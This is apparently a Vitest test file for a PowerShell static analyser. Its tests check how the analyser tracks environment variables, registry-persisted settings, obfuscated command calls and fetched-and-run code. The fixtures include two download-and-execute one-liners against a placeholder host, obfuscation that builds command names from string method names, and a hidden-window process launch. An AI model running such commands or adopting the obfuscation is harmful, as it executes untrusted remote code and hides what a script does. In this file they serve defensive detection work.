import { describe, expect, it } from "vitest";
import { readPowerShell } from "./powershell.ts";

const startedBy = (code: string) => readPowerShell(code).commands.map(({ tokens, env }) => [tokens.join(" "), env]);

describe("the environment that code sets", () => {
  it.each([
    "$env:kit_home = 'C:\\kit'; tool.exe",
    "Set-Item env:kit_home C:\\kit; tool.exe",
    "[Environment]::SetEnvironmentVariable('KIT_HOME', 'C:\\kit'); tool.exe",
    "[System.Environment]::SetEnvironmentVariable('KIT_HOME', 'C:\\kit', 'Process'); tool.exe",
  ])("is handed to what it starts: %s", (code) => {
    expect(startedBy(code)).toEqual([["tool.exe", { KIT_HOME: "C:\\kit" }]]);
  });

  it("is not there for what was started before", () => {
    expect(startedBy("tool.exe; $env:A = 'b'")).toEqual([["tool.exe", undefined]]);
  });

  it("is a change of the registry where it is to stay", () => {
    const [user, machine] = ["'User'", "[EnvironmentVariableTarget]::Machine"].map(
      (target) => readPowerShell(`[Environment]::SetEnvironmentVariable('KIT', 'C:\\kit', ${target})`).commands[0],
    );
    expect(user).toMatchObject({ via: "registry", text: "Set-ItemProperty add hkcu\\environment /v KIT /d C:\\kit" });
    expect(machine?.tokens[2]).toBe("hklm\\system\\currentcontrolset\\control\\session manager\\environment");
  });
});

describe("what code calls", () => {
  it.each([
    [".(([string]''.IndexOf)[0,7,8]-join'') 'tool.exe'", "tool.exe"],
    ["&(''.LastIndexOf[0,11,12]-join'') 'tool.exe'", "tool.exe"],
    ["saps tool.exe -wi hidden -wo C:\\kit", "tool.exe"],
  ])("is known though it is written so: %s", (code, line) => {
    expect(readPowerShell(code)).toMatchObject({ commands: [{ text: line }], callsUnknown: false });
  });

  it.each(["& ($x) tool", "& $x tool", "& (gv x -ValueOnly) tool"])("is said not to be known: %s", (code) => {
    expect(readPowerShell(code).callsUnknown).toBe(true);
  });

  it.each([
    "[scriptblock]::Create((irm http://files.example/a)).Invoke()",
    "[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('http://files.example/a')).InvokeReturnAsIs()",
  ])("is what it has fetched: %s", (code) => {
    expect(readPowerShell(code).findings).toContainEqual(
      expect.objectContaining({ role: "runs", value: "http://files.example/a" }),
    );
  });
});
